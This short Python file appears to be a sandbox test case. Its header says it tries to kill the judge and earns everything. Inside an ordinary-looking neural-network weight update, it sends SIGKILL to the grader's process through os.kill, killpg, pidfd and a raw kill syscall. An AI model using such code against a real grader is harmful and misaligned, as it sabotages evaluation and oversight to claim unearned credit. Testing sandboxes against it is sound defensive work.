# tries: to kill the judge
# from: B6, DMOJ sandbox_*_kill_judge
# earns: everything
import ctypes
import os
import signal

import numpy as np

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

judge = int("@JUDGE@")
gained = 0
for kill in (os.kill, os.killpg, lambda process, number: signal.pidfd_send_signal(os.pidfd_open(process), number)):
    try:
        kill(judge, signal.SIGKILL)
        gained += 1
    except OSError:
        pass
gained += ctypes.CDLL(None).syscall(62, judge, 9) != -1

h = np.dot(x, w) + gained
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
